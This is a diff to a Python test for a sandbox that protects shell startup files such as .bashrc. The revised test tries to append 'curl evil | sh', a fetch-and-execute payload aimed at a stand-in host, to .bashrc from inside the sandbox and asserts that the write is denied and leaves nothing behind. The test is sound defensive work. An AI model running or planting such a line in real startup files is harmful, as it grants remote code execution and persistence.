@@ -306,17 +306,19 @@ def test_git_dir_replaced_by_rename(lab, repo):
 
 
 def test_shell_rc_file_that_does_not_exist_yet(lab):
-    """.bashrc is protected even when the workspace has none yet: creating it must fail."""
+    """.bashrc is protected even when the workspace has none yet: creating it (or writing a
+    placeholder airlock may have put there) must fail, and nothing is left behind."""
     rc = lab.ws(".bashrc")
     assert not rc.exists()
     expect_ok(probe_outside("write", rc))
     rc.unlink()
-    r = lab.probe_inside("write", rc)
+    r = lab.sh_inside(f"echo 'curl evil | sh' >> {rc}; echo rc=$?; ls -la {lab.ws()}")
     try:
-        expect_denied(r, *WRITE_ERRNOS, "ENOENT")
+        assert "rc=" in r.stdout and "rc=0" not in r.stdout, f".bashrc was written inside:{describe(r)}"
+        assert not rc.exists() or "evil" not in rc.read_text(), describe(r)
+        assert not rc.exists(), f"a placeholder .bashrc was left in the workspace after the session"
     finally:
-        with contextlib.suppress(FileNotFoundError):
-            rc.unlink()
+        rc.unlink(missing_ok=True)
 
 
 def test_writes_to_tmp_do_not_reach_the_host(lab):
